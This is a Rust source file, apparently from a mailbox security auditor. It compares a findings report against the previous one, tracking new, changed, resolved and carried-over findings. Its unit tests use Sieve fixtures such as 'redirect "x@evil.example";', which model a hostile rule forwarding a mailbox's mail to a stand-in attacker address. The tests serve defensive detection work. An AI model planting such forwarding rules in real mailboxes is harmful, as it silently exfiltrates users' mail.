//! A report against the one before it.

use std::collections::{BTreeMap, BTreeSet};

use mailwarden_evidence::SYSTEM;

use crate::coverage::{is_complete, rows};
use crate::wording::joined;
use crate::{Finding, Report, State, Status};

/// Begins the sentence on a finding that could not be looked for, so that it is replaced and not repeated.
const NOT_SEEN: &str = "could not be looked at this time";

/// Sets a report against the previous one: what is new, unchanged or changed keeps the day it was first seen,
/// and what is gone is added as resolved.
///
/// Gone means looked for in full and not there. What this run could not look at is carried over as open and
/// historic, with the reason; what lies in a mailbox that this run did not ask about is left out, because the
/// run says nothing of it.
pub fn compare(mut report: Report, previous: &Report) -> Report {
    let before: BTreeMap<&str, &Finding> = previous
        .findings
        .iter()
        .filter(|finding| finding.status != Status::Resolved)
        .map(|finding| (finding.fingerprint.as_str(), finding))
        .collect();
    for finding in &mut report.findings {
        if let Some(earlier) = before.get(finding.fingerprint.as_str()) {
            continue_from(finding, earlier);
        }
    }
    let seen: BTreeSet<&str> = report.findings.iter().map(|finding| finding.fingerprint.as_str()).collect();
    let gone = before.values().filter(|finding| !seen.contains(finding.fingerprint.as_str()));
    let added: Vec<Finding> = gone.filter_map(|finding| without_trace(finding, &report)).collect();
    report.findings.extend(added);
    report.seal()
}

fn continue_from(finding: &mut Finding, earlier: &Finding) {
    finding.first_seen = earlier.first_seen;
    finding.observed_use = finding.observed_use.or(earlier.observed_use);
    if finding.status != Status::Accepted {
        let same = finding.content_hash == earlier.content_hash;
        finding.status = if same { Status::Unchanged } else { Status::Changed };
    }
}

/// What becomes of an earlier finding that this run does not have.
fn without_trace(earlier: &Finding, report: &Report) -> Option<Finding> {
    if is_complete(&report.coverage, &earlier.mailbox, &earlier.surface.id) {
        return Some(Finding { status: Status::Resolved, suppression: None, ..earlier.clone() });
    }
    is_asked_about(earlier, report).then(|| carried_over(earlier, report))
}

fn is_asked_about(earlier: &Finding, report: &Report) -> bool {
    report.coverage.iter().any(|row| {
        row.mailbox.eq_ignore_ascii_case(&earlier.mailbox)
            || (row.mailbox == SYSTEM && row.surface == earlier.surface.id)
    })
}

fn carried_over(earlier: &Finding, report: &Report) -> Finding {
    let said = earlier.conditions.split("; ").filter(|sentence| !sentence.starts_with(NOT_SEEN));
    let mut conditions: Vec<String> = said.map(str::to_owned).collect();
    conditions.push(format!("{NOT_SEEN} ({})", gap(earlier, report)));
    let still_accepted = earlier.suppression.as_ref().is_some_and(|by| by.expires > report.finished);
    Finding {
        status: if still_accepted { Status::Accepted } else { Status::Unchanged },
        suppression: earlier.suppression.clone().filter(|_| still_accepted),
        state: State::Historic,
        conditions: joined(&conditions),
        ..earlier.clone()
    }
}

/// Why it was not seen. The text is another program's, so the sentence mark that parts conditions is taken
/// out.
fn gap(earlier: &Finding, report: &Report) -> String {
    let gap =
        rows(&report.coverage, &earlier.mailbox, &earlier.surface.id).find(|row| !row.state.is_complete());
    match gap {
        Some(row) if !row.reason.is_empty() => row.reason.replace("; ", ", "),
        Some(_) => "no reason was given".to_owned(),
        None => format!("{} was not asked for", earlier.surface.id),
    }
}

#[cfg(test)]
mod tests {
    use mailwarden_evidence::CoverageState::{self, Collected, Denied};

    use super::*;
    use crate::Verdict;
    use crate::testing::{judged, script};

    const SALES: &str = "sales@example.test";
    const SURFACE: &str = "managesieve.scripts";
    const FORWARD: &str = "redirect \"x@evil.example\";";

    fn run(source: &str, state: CoverageState) -> Report {
        judged(&[script(SALES, "main", true, source)], &[(SALES, SURFACE, state)])
    }

    fn earlier() -> Report {
        let mut report = run(FORWARD, Collected);
        report.findings[0].first_seen = "2026-01-01T00:00:00Z".parse().unwrap();
        report
    }

    fn statuses(report: &Report) -> Vec<Status> {
        report.findings.iter().map(|finding| finding.status).collect()
    }

    #[test]
    fn what_was_there_before_keeps_its_first_day() {
        let same = compare(run(FORWARD, Collected), &earlier());
        assert_eq!(statuses(&same), [Status::Unchanged]);
        assert_eq!(same.findings[0].first_seen, earlier().findings[0].first_seen);
        let narrowed = format!("if header :is \"x\" \"y\" {{ {FORWARD} }}");
        let changed = compare(run(&narrowed, Collected), &earlier());
        assert_eq!(statuses(&changed), [Status::Changed]);
        assert_eq!(changed.findings[0].first_seen, earlier().findings[0].first_seen);
    }

    #[test]
    fn gone_is_resolved_once_and_only_when_all_was_looked_at() {
        let gone = compare(run("keep;", Collected), &earlier());
        assert_eq!((statuses(&gone), gone.verdict), (vec![Status::Resolved], Verdict::Clean));
        let later = compare(run("keep;", Collected), &gone);
        assert_eq!(statuses(&later), []);
    }

    #[test]
    fn what_could_not_be_looked_at_stays_open_and_says_why() {
        let once = compare(run("keep;", Denied), &earlier());
        let twice = compare(run("keep;", Denied), &once);
        for report in [once, twice] {
            assert_eq!((statuses(&report), report.verdict), (vec![Status::Unchanged], Verdict::Findings));
            assert_eq!(report.findings[0].state, State::Historic);
            let expected = "on every message; could not be looked at this time (refused, try again)";
            assert_eq!(report.findings[0].conditions, expected);
        }
    }

    #[test]
    fn a_mailbox_not_asked_about_is_left_out() {
        let other = judged(&[], &[("jane@example.test", SURFACE, Collected)]);
        assert_eq!(statuses(&compare(other, &earlier())), []);
    }

    #[test]
    fn another_target_is_another_finding() {
        let moved = compare(run("redirect \"y@evil.example\";", Collected), &earlier());
        let mut found = statuses(&moved);
        found.sort_by_key(|status| *status == Status::Resolved);
        assert_eq!(found, [Status::New, Status::Resolved]);
    }
}
